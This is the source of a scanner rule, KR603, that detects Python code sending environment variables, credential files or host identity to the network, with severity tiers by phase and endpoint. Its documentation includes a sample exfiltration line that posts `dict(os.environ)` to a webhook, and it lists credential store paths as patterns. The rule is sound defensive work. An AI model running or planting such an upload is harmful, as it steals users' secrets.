/**
 * KR603 data-exfiltration: the whole environment, credential files (cloud and SSH keys,
 * browser profiles, wallets) or host and user identity sent to the network — what
 * stealers and "dependency confusion" probes do. Collectors such as webhooks, paste
 * sites, tunnels and raw IP addresses weigh more.
 */
import { defineRule } from '../../core/rule.js';
import { byPhase, factsFor, importsNetwork, isSendCall, phaseWord, sensitiveArgs, type SensitiveKind } from './facts.js';
import type { Severity } from '../../core/finding.js';

const WHAT: Record<SensitiveKind, string> = {
  environment: 'the whole process environment',
  'credential-file': 'credential files or their contents',
  identity: 'host and user identity',
};

export const dataExfiltration = defineRule({
  id: 'KR603',
  name: 'data-exfiltration',
  category: 'code',
  severity: 'critical',
  confidence: 'high',
  cwe: [200],
  docs: {
    what:
      'Flags network sends (HTTP requests, socket sends, mail, FTP, DNS look-ups, webhook and bot APIs) whose arguments carry, directly or through variables, the whole environment (`dict(os.environ)`, `os.environ.copy()`), paths or contents of credential stores (`~/.aws`, `~/.ssh`, `.netrc`, `.pypirc`, `.docker/config.json`, browser `Login Data`/`Cookies`, wallet files) or host and user identity (`socket.gethostname()`, `getpass.getuser()`, `platform.node()`, `uuid.getnode()`, public-IP services). The environment and credentials are high (critical at install or import time, or towards a webhook, paste site, tunnel or raw IP); identity alone is medium (high at install or import time, critical with a collector endpoint).',
    why:
      'Sending secrets or identity off the machine without the user asking is exposure of sensitive information to an unauthorised actor (CWE-200); it is the core of credential stealers uploaded to PyPI and of "dependency confusion" probes that phone home from inside companies. The environment of a CI job holds cloud keys and publishing tokens.',
    example:
      'import os, requests\nrequests.post("https://discord.com/api/webhooks/1/abc", json={"env": dict(os.environ)})',
    instead:
      'Send only the one value the documented API needs, read explicitly (`os.environ["GITHUB_TOKEN"]` in an Authorization header to api.github.com), and never at install or import time.',
    references: [
      'https://cwe.mitre.org/data/definitions/200.html',
      'https://github.com/DataDog/guarddog#heuristics',
      'https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610',
    ],
  },
  visit: {
    Call(node, ctx) {
      // The module's facts are computed only for a call that sends something.
      if (!isSendCall(node, ctx.semantic, { hasNetwork: importsNetwork(ctx.semantic) })) return;
      const facts = factsFor(node, ctx.semantic, ctx.path);
      const kind = sensitiveArgs(node, ctx.semantic, facts);
      if (!kind) return;
      const phase = facts.phaseOf(node);
      const drop = facts.dropEndpoints[0];
      let severity: Severity;
      if (kind === 'identity') severity = drop ? (phase === 'runtime' ? 'high' : 'critical') : byPhase(phase, 'high', 'medium');
      else severity = drop ? 'critical' : byPhase(phase, 'critical', 'high');
      ctx.report(node, {
        severity,
        message: `${WHAT[kind][0].toUpperCase()}${WHAT[kind].slice(1)} is sent to the network ${phaseWord(phase)}${drop ? ` (the file names a ${drop.what}: ${drop.value})` : ''}.`,
        fix: 'Remove the upload; send only the specific value a documented API needs, when the user asks for it.',
        properties: { indicator: 'exfiltration', data: kind, phase, ...(drop ? { endpoint: drop.what } : {}) },
      });
    },
  },
});
